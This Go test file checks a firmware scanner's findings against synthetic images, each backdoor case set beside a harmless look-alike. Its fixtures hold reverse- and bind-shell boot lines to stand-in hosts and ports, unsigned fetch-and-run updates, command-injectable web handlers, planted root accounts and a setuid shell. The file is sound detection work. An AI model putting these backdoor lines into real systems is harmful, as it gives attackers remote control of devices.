package inspect_test

import (
	"crypto/ed25519"
	"crypto/rand"
	"crypto/x509"
	"encoding/pem"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"
)

func freshKey(t *testing.T) (private, authorized string) {
	t.Helper()
	pub, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, _ := x509.MarshalPKCS8PrivateKey(key)
	sp, _ := ssh.NewPublicKey(pub)
	return string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})), string(ssh.MarshalAuthorizedKey(sp))
}

// One way in each, and beside it the harmless thing that looks like it.
func TestWaysIn(t *testing.T) {
	key, auth := freshKey(t)
	cgi := func(s string) []string {
		return []string{"www/index.html", "<a href=/cgi-bin/x.cgi>x</a>", "www/cgi-bin/x.cgi", "0755 #!/bin/sh\necho Content-type: text/html\necho\n" + s}
	}
	for _, c := range []struct {
		name string
		add  []string
		want []string
		not  []string // IDs that must not be above a note
	}{
		{"private key", []string{"etc/ssl/server.key", key}, []string{"key.private suspicious server.key"}, nil},
		{"private key in a program", []string{"usr/bin/app", prog("x\x00" + key + "\x00y")}, []string{"key.private suspicious usr/bin/app"}, nil},
		{"authorised key, no server", []string{"root/.ssh/authorized_keys", auth}, []string{"key.authorized probable authorized_keys"}, nil},
		{"authorised key and server", []string{"etc/init.d/rcS", "0755 #!/bin/sh\ndropbear\n", "etc/dropbear/authorized_keys", auth}, []string{"key.authorized confirmed etc/dropbear"}, nil},
		{"certificate is no key", []string{"etc/ssl/certs/ca.pem", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"}, nil, []string{"key.private"}},
		{"a text that speaks of keys", []string{"usr/bin/help.sh", "0755 #!/bin/sh\necho '-----BEGIN PRIVATE KEY-----'\n"}, nil, []string{"key.private"}},
		{"known hash: des", []string{"etc/passwd", "root:absxcfbgXtb3o:0:0::/root:/bin/sh\n", "etc/shadow", ""}, []string{"account.known-hash confirmed xc3511"}, nil},
		{"unknown hash", []string{"etc/shadow", "root:$1$abcdefgh$0123456789abcdefghijk0:1:0:99999:7:::\n"}, []string{"account.hardcoded suspicious root"}, nil},
		{"locked", []string{"etc/shadow", "root:!$1$abcdefgh$0123456789abcdefghijk0:1:0:99999:7:::\n"}, nil, []string{"account.hardcoded", "account.known-hash"}},
		{"no password, no shell", []string{"etc/passwd", "root:x:0:0::/root:/bin/sh\nftp::14:50::/var:/sbin/nologin\n"}, nil, []string{"account.empty-password"}},
		{"second root", []string{"etc/passwd", "root:x:0:0::/root:/bin/sh\nsupport:x:0:0::/:/bin/ash\n"}, []string{"account.uid0-twin confirmed support"}, nil},
		{"renamed root", []string{"etc/passwd", "admin:x:0:0::/root:/bin/sh\n", "etc/shadow", "admin:*:1:0:99999:7:::\n"}, nil, []string{"account.uid0-twin"}},
		{"password set at start", []string{"etc/init.d/rcS", "0755 #!/bin/sh\n(echo hunter22; echo hunter22) | passwd root\n"}, []string{"account.hardcoded confirmed root"}, nil},
		{"password set by chpasswd", []string{"etc/init.d/rcS", "0755 #!/bin/sh\nchpasswd <<E\nroot:hunter22\nE\n"}, []string{"account.hardcoded confirmed root"}, nil},
		{"account added at start", []string{"etc/init.d/rcS", "0755 #!/bin/sh\necho 'svc::0:0::/:/bin/sh' >> /etc/passwd\n"}, []string{"account.uid0-twin confirmed svc"}, nil},
		{"injection: eval", cgi("eval $QUERY_STRING\n"), []string{"web.command-injection probable x.cgi"}, nil},
		{"injection: pinged host", cgi("HOST=`echo $QUERY_STRING | cut -d= -f2`\nsh -c \"ping -c 1 $HOST\"\n"), []string{"web.command-injection probable x.cgi"}, nil},
		{"injection: read from the body", cgi("read BODY\nIP=${BODY#ip=}\neval \"ping $IP\"\n"), []string{"web.command-injection probable x.cgi"}, nil},
		{"injection: php", []string{"www/diag.php", "<?php $h=$_GET['h']; echo shell_exec(\"ping \".$h); ?>"}, []string{"web.command-injection probable diag.php"}, nil},
		{"injection: lua", []string{"usr/lib/lua/luci/controller/x.lua", "local h = luci.http.formvalue('h')\nos.execute('ping ' .. h)\n"}, []string{"web.command-injection probable x.lua"}, nil},
		{"no injection: printed", cgi("echo \"you asked $QUERY_STRING\"\n"), nil, []string{"web.command-injection"}},
		{"no injection: compared", cgi("if [ \"$QUERY_STRING\" = reboot ]; then reboot; fi\n"), nil, []string{"web.command-injection"}},
		{"no injection: php escaped", []string{"www/diag.php", "<?php $h=escapeshellarg($_GET['h']); echo shell_exec(\"ping \".$h); ?>"}, nil, []string{"web.command-injection"}},
		{"no injection: outside the web", []string{"usr/bin/tool.sh", "0755 #!/bin/sh\neval \"$1\"\n"}, nil, []string{"web.command-injection"}},
		{"setuid script", []string{"usr/bin/fix", "4755 #!/bin/sh\nexec /bin/sh\n"}, []string{"exec.setuid suspicious usr/bin/fix"}, nil},
		{"setuid copy of a shell", []string{"usr/bin/.helper", "4755 " + strings.TrimPrefix(prog("GNU bash, version 5.1.4(1)-release"), "0755 ")}, []string{"exec.setuid suspicious usr/bin/.helper"}, nil},
		{"setuid busybox", []string{"bin/busybox", "4755 " + strings.TrimPrefix(prog("BusyBox v1.35.0 (x) multi-call binary."), "0755 ")}, nil, []string{"exec.setuid"}},
		{"update fetched and run", []string{"etc/init.d/rcS", "0755 #!/bin/sh\nwget -O - http://update.example.invalid/run.sh | sh\n"}, []string{"update.unsigned probable update.example.invalid"}, nil},
		{"update fetched, then run", []string{"etc/init.d/rcS", "0755 #!/bin/sh\nwget -O /tmp/r.sh http://update.example.invalid/run.sh\nchmod +x /tmp/r.sh\n/tmp/r.sh\n"}, []string{"update.unsigned probable update.example.invalid"}, nil},
		{"update checked", []string{"etc/init.d/rcS", "0755 #!/bin/sh\nwget -O /tmp/r https://update.example.invalid/fw.bin && openssl dgst -sha256 -verify /etc/k.pem -signature /tmp/s /tmp/r && sysupgrade /tmp/r\n"}, nil, []string{"update.unsigned"}},
		{"remote management", []string{"etc/config/cwmp", "config cwmp\n option acs_url 'http://acs.example.invalid/'\n option conn_req_username 'cpe'\n option conn_req_password 'cpe'\n"}, []string{"remote.tr069-default suspicious acs.example.invalid"}, nil},
		{"snmp", []string{"etc/snmp/snmpd.conf", "rwcommunity private\n"}, []string{"remote.snmp-default suspicious private"}, nil},
		{"snmp for itself", []string{"etc/snmp/snmpd.conf", "rocommunity public 127.0.0.1\n"}, nil, []string{"remote.snmp-default"}},
		{"debugger", []string{"usr/bin/gdbserver", prog("g"), "etc/init.d/rcS", "0755 #!/bin/sh\ngdbserver :2345 --attach 1 &\n"}, []string{"daemon.debug-at-boot confirmed gdbserver"}, nil},
		{"debugger present", []string{"usr/bin/gdbserver", prog("g")}, nil, []string{"daemon.debug-at-boot"}},
		{"connect back", []string{"bin/nc", "-> busybox", "etc/init.d/rcS", "0755 #!/bin/sh\nwhile :; do nc 203.0.113.9 443 -e /bin/sh; sleep 60; done &\n"}, []string{"daemon.debug-at-boot confirmed 203.0.113.9"}, nil},
		{"named pipe shell", []string{"bin/nc", "-> busybox", "etc/init.d/rcS", "0755 #!/bin/sh\nmkfifo /tmp/f\ncat /tmp/f | /bin/sh -i 2>&1 | nc -l -p 4242 > /tmp/f &\n"}, []string{"daemon.debug-at-boot confirmed 4242"}, nil},
		{"bash network path", []string{"etc/init.d/rcS", "0755 #!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\n"}, []string{"daemon.debug-at-boot confirmed 203.0.113.9"}, nil},
		{"socat shell", []string{"usr/bin/socat", prog("s"), "etc/init.d/rcS", "0755 #!/bin/sh\nsocat TCP-LISTEN:5555,fork EXEC:/bin/sh &\n"}, []string{"daemon.debug-at-boot confirmed 5555"}, nil},
		{"netcat for logs", []string{"bin/nc", "-> busybox", "etc/init.d/rcS", "0755 #!/bin/sh\nnc -l -p 514 > /tmp/log &\n"}, nil, []string{"daemon.debug-at-boot"}},
		{"ftp of the whole system", []string{"etc/init.d/rcS", "0755 #!/bin/sh\ntcpsvd -vE 0.0.0.0 21 ftpd -w / &\n"}, nil, nil},
		{"hidden handler", []string{"www/index.html", "<a href=/cgi-bin/status.cgi>s</a>", "www/cgi-bin/status.cgi", "0755 #!/bin/sh\ncat /proc/uptime\n", "www/cgi-bin/mfgtest.cgi", "0755 #!/bin/sh\ncase $QUERY_STRING in on) telnetd;; esac\n"}, []string{"web.hidden-endpoint suspicious mfgtest.cgi"}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := bounded(t, cpioTree(with(base(), c.add...)))
			check(t, r, c.want...)
			for _, x := range r.Findings {
				for _, id := range c.not {
					if x.ID == id && x.Level != "note" {
						t.Errorf("%s %s: %s [%s]", x.Level, x.ID, x.Title, x.Evidence)
					}
				}
			}
		})
	}
}
